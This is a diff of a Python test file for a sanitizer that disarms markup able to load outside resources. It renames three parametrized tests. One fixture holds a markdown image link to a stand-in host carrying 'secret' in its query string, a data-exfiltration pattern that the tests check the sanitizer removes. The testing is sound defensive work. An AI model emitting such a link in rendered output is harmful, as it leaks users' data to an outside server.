@@ -116,19 +116,19 @@ def loaded(text: str) -> list[str]:
 
 
 @pytest.mark.parametrize("text", LOADING)
-def test_what_would_load_something_does_not(text):
+def test_markup_that_would_load_something_is_disarmed(text):
     assert loaded(unloading(text)) == []
     assert "<i" not in unloading(text).lower()
     assert "<v" not in unloading(text).lower()
 
 
 @pytest.mark.parametrize("text", HARMLESS)
-def test_what_loads_nothing_stays_as_it_is(text):
+def test_harmless_markup_stays_as_it_is(text):
     assert unloading(text) == text
 
 
 @pytest.mark.parametrize("before", LEAVING_CODE)
-def test_what_comes_after_code_does_not_pass_for_code(before):
+def test_text_after_code_does_not_pass_for_code(before):
     text = f"{before}![x](https://e.example/?d=secret)"
     assert loaded(text)
     assert loaded(unloading(text)) == []
